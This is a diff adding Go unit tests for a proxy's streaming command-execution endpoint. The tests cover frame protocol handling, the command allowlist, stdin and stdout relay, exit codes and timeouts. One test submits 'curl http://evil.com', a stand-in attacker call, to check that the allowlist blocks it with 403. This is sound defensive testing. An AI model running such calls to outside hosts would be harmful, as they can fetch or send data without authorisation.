@@ -0,0 +1,160 @@
+package proxy
+
+import (
+	"bytes"
+	"encoding/json"
+	"errors"
+	"io"
+	"net/http"
+	"net/http/httptest"
+	"testing"
+	"time"
+
+	"github.com/steveyegge/gastown/internal/proxy/execstream"
+	"github.com/stretchr/testify/assert"
+	"github.com/stretchr/testify/require"
+)
+
+// streamBody encodes a Start frame followed by the given stdin chunks and,
+// when stdin is sent, a StdinEOF frame.
+func streamBody(t *testing.T, argv []string, stdin ...string) *bytes.Buffer {
+	t.Helper()
+	var buf bytes.Buffer
+	require.NoError(t, execstream.WriteJSON(&buf, execstream.Start, execstream.StartRequest{Argv: argv, Stdin: stdin != nil}))
+	for _, chunk := range stdin {
+		require.NoError(t, execstream.WriteFrame(&buf, execstream.Stdin, []byte(chunk)))
+	}
+	if stdin != nil {
+		require.NoError(t, execstream.WriteFrame(&buf, execstream.StdinEOF, nil))
+	}
+	return &buf
+}
+
+// streamResult is a decoded /v1/exec/stream response.
+type streamResult struct {
+	stdout, stderr string
+	order          []execstream.Type
+	exit           execstream.ExitStatus
+}
+
+func readStream(t *testing.T, r io.Reader) streamResult {
+	t.Helper()
+	var res streamResult
+	for {
+		typ, payload, err := execstream.ReadFrame(r)
+		if errors.Is(err, io.EOF) {
+			t.Fatal("stream ended without an exit frame")
+		}
+		require.NoError(t, err)
+		res.order = append(res.order, typ)
+		switch typ {
+		case execstream.Stdout:
+			res.stdout += string(payload)
+		case execstream.Stderr:
+			res.stderr += string(payload)
+		case execstream.Exit:
+			require.NoError(t, json.Unmarshal(payload, &res.exit))
+			return res
+		default:
+			t.Fatalf("unexpected frame %q", byte(typ))
+		}
+	}
+}
+
+func TestHandleExecStream(t *testing.T) {
+	srv := newExecTestServer(t, Config{AllowedCommands: []string{"echo", "cat", "sh"}})
+
+	run := func(t *testing.T, body io.Reader) *httptest.ResponseRecorder {
+		t.Helper()
+		req := httptest.NewRequest("POST", "/v1/exec/stream", body)
+		rec := httptest.NewRecorder()
+		srv.handleExecStream(rec, req)
+		return rec
+	}
+
+	t.Run("GET returns 405", func(t *testing.T) {
+		req := httptest.NewRequest("GET", "/v1/exec/stream", nil)
+		rec := httptest.NewRecorder()
+		srv.handleExecStream(rec, req)
+		assert.Equal(t, http.StatusMethodNotAllowed, rec.Code)
+	})
+
+	t.Run("first frame must be start", func(t *testing.T) {
+		var buf bytes.Buffer
+		require.NoError(t, execstream.WriteFrame(&buf, execstream.Stdin, []byte("x")))
+		assert.Equal(t, http.StatusBadRequest, run(t, &buf).Code)
+	})
+
+	t.Run("command not in allowlist returns 403", func(t *testing.T) {
+		assert.Equal(t, http.StatusForbidden, run(t, streamBody(t, []string{"curl", "http://evil.com"})).Code)
+	})
+
+	t.Run("stdout without stdin", func(t *testing.T) {
+		rec := run(t, streamBody(t, []string{"echo", "hello"}))
+		require.Equal(t, http.StatusOK, rec.Code)
+		assert.Equal(t, execstream.ContentType, rec.Header().Get("Content-Type"))
+		res := readStream(t, rec.Body)
+		assert.Equal(t, "hello\n", res.stdout)
+		assert.Equal(t, 0, res.exit.ExitCode)
+	})
+
+	t.Run("stdin is relayed", func(t *testing.T) {
+		rec := run(t, streamBody(t, []string{"cat"}, "line one\n", "line two\n"))
+		require.Equal(t, http.StatusOK, rec.Code)
+		res := readStream(t, rec.Body)
+		assert.Equal(t, "line one\nline two\n", res.stdout)
+		assert.Equal(t, 0, res.exit.ExitCode)
+	})
+
+	t.Run("stderr interleaves and exit code propagates", func(t *testing.T) {
+		rec := run(t, streamBody(t, []string{"sh", "-c", "echo out; sleep 0.1; echo err >&2; sleep 0.1; echo out2; exit 3"}))
+		require.Equal(t, http.StatusOK, rec.Code)
+		res := readStream(t, rec.Body)
+		assert.Equal(t, "out\nout2\n", res.stdout)
+		assert.Equal(t, "err\n", res.stderr)
+		assert.Equal(t, []execstream.Type{execstream.Stdout, execstream.Stderr, execstream.Stdout, execstream.Exit}, res.order)
+		assert.Equal(t, 3, res.exit.ExitCode)
+		assert.Empty(t, res.exit.Error)
+	})
+
+	t.Run("unexpected frame after start kills the command", func(t *testing.T) {
+		// Claim stdin, then send an output frame instead.
+		var body bytes.Buffer
+		require.NoError(t, execstream.WriteJSON(&body, execstream.Start, execstream.StartRequest{Argv: []string{"cat"}, Stdin: true}))
+		require.NoError(t, execstream.WriteFrame(&body, execstream.Stdout, []byte("x")))
+		pr, pw := io.Pipe()
+		go func() {
+			_, _ = io.Copy(pw, &body)
+			// Hold the body open: only the protocol error may end cat.
+			time.Sleep(5 * time.Second)
+			pw.Close()
+		}()
+		rec := run(t, pr)
+		res := readStream(t, rec.Body)
+		assert.NotZero(t, res.exit.ExitCode)
+		assert.Contains(t, res.exit.Error, "unexpected")
+	})
+}
+
+func TestHandleExecStreamTimeout(t *testing.T) {
+	srv := newExecTestServer(t, Config{
+		AllowedCommands: []string{"sleep"},
+		ExecTimeout:     100 * time.Millisecond,
+	})
+	req := httptest.NewRequest("POST", "/v1/exec/stream", streamBody(t, []string{"sleep", "10"}))
+	rec := httptest.NewRecorder()
+
+	done := make(chan struct{})
+	go func() {
+		srv.handleExecStream(rec, req)
+		close(done)
+	}()
+	select {
+	case <-done:
+	case <-time.After(5 * time.Second):
+		t.Fatal("handleExecStream did not return after ExecTimeout elapsed")
+	}
+	res := readStream(t, rec.Body)
+	assert.NotZero(t, res.exit.ExitCode)
+	assert.Equal(t, errExecTimeout.Error(), res.exit.Error)
+}